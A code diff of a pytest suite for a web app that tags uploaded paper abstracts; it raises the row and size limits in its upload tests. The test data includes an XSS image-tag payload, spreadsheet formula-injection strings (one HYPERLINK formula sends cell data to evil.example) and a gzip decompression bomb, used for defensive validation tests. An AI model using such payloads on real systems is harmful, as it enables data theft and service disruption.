@@ -18,7 +18,7 @@ HTTP = requests.Session()
 HTTP.trust_env = False
 FORMATS = [f'{f}{z}' for f in ('csv', 'jsonl', 'parquet') for z in ('', '.gz')]
 PAPERS = [dict(title='Finding Names in Old Letters', abstract='Named entity recognition in letters of the eighteenth century is hard, since their spelling varies.', year=2021),
-          dict(title='A Parser for Basque', abstract=GOOD, year=2022), dict(title='An Empty Page', abstract=' ', year=2023),
+          dict(title='A Parser for Basque', abstract='Dependency parsing of Basque suffers from a small treebank. We train a parser on raw text as well.', year=2022), dict(title='An Empty Page', abstract=' ', year=2023),
           dict(title='Counting Fish', abstract='Object detectors miss small fish in murky water. We count salmon in three hundred frames.', year=2024)]
 MARKUP = '<img src=x onerror="window.hacked=1">'
 FORMULAS = ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '\nx', '=HYPERLINK("http://evil.example?x="&A1)', '＝1+1']
@@ -28,9 +28,9 @@ FORMULAS = ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '\nx', '=HYPERLINK("ht
 
 @pytest.fixture(scope='session')
 def app(tmp_path_factory):
-    "A server with narrow limits, and the folder of its temporary files, which is empty in the end."
+    "A server, and the folder of its temporary files, which is empty in the end."
     port, folder = free_port(), tmp_path_factory.mktemp('tmp')
-    process = start(port, TMPDIR=str(folder), PAPER_TASKS_MAX_ROWS='50', PAPER_TASKS_MAX_MEGABYTES='2', PAPER_TASKS_MAX_UNPACKED='20')
+    process = start(port, TMPDIR=str(folder))
     yield wait_up(process, port), folder
     stop(process)
     assert not [p for p in folder.rglob('*') if p.name not in ('gradio', 'vibe_edit_history', '.ses')] # what gradio and onnxruntime make, all empty but for the last
@@ -106,7 +106,7 @@ def test_nothing_chosen(page):
     assert 'no file was chosen' in page.alert('#rows')
 
 @pytest.mark.parametrize('name, content, why', [('latin.csv', 'abstract\nÜber Bäume\n'.encode('latin-1'), 'latin.csv is not UTF-8 text'), ('none.jsonl', b' ', 'has no rows'), ('broken.parquet', b'PAR1'*50, 'not a whole parquet file'),
-    ('other.csv', b'text\nx\n', "no column 'abstract'"), ('many.jsonl', b'{"abstract": "We parse."}\n'*51, 'more than 50 rows'), ('bomb.csv.gz', gzip.compress(b'abstract\n' + b'x'*30_000_000), 'more than 20 MB')])
+    ('other.csv', b'text\nx\n', "no column 'abstract'"), ('many.jsonl', b'{"abstract": "We parse."}\n'*2001, 'more than 2,000 rows'), ('bomb.csv.gz', gzip.compress(b'abstract\n' + b'x'*10_000_000)*11, 'more than 100 MB')])
 def test_bad_then_good_file(page, tmp_path, app, name, content, why):
     upload(page, put(tmp_path/'bad', content).rename(tmp_path/name))
     said = page.alert('#rows')
@@ -117,10 +117,10 @@ def test_bad_then_good_file(page, tmp_path, app, name, content, why):
 
 def test_too_large(page, app, tmp_path):
     page.wait('#tag-file')
-    page.find('#file input[type=file]')[0].send_keys(str(put(tmp_path/'large.jsonl', '{"abstract": "x"}\n'*150_000)))
-    page.until('a refusal', lambda: 'exceed the maximum allowed size of 2' in page.find('body')[0].text)
-    r = HTTP.post(f'{app[0]}/gradio_api/upload', files=dict(files=('large.csv', b'x'*2_200_000)), timeout=WAIT)
-    assert r.status_code == 413 and '50 papers and 2 MB at most' in page.find('body')[0].text
+    page.find('#file input[type=file]')[0].send_keys(str(put(tmp_path/'large.jsonl', '{"abstract": "x"}\n'*1_500_000)))
+    page.until('a refusal', lambda: 'exceed the maximum allowed size of 20' in page.find('body')[0].text)
+    r = HTTP.post(f'{app[0]}/gradio_api/upload', files=dict(files=('large.csv', b'x'*22_000_000)), timeout=WAIT)
+    assert r.status_code == 413 and '2,000 papers and 20 MB at most' in page.find('body')[0].text
 
 def test_phone(browser, page, tmp_path):
     narrow(browser)
